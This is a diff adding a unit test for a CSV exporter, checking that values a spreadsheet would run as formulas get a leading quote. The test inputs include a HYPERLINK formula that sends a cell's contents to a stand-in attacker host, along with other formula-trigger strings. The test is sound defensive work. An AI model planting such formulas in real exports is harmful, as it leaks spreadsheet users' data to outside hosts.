@@ -39,6 +39,22 @@ describe('resultsCsv', () => {
     expect(row).toMatch(/^"Das, ""Mira""\nJr",mira,/);
   });
 
+  it('neutralises text a spreadsheet would run as a formula with a leading quote', () => {
+    const firstField = (fullname: string) =>
+      resultsCsv([result({ fullname })])
+        .split('\r\n')[1]!
+        .split(',mira,')[0];
+    expect(firstField('=HYPERLINK("https://evil.example/?d="&A2,"Open")')).toBe(
+      `"'=HYPERLINK(""https://evil.example/?d=""&A2,""Open"")"`,
+    );
+    expect(firstField('+1+2')).toBe("'+1+2");
+    expect(firstField('-2+3')).toBe("'-2+3");
+    expect(firstField('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
+    expect(firstField('\t=1+1')).toBe("'\t=1+1");
+    expect(firstField('\r=1+1')).toBe(`"'\r=1+1"`);
+    expect(firstField('Mira = Das')).toBe('Mira = Das');
+  });
+
   it('writes only the header for no results', () => {
     expect(resultsCsv([]).split('\r\n')).toHaveLength(2);
   });
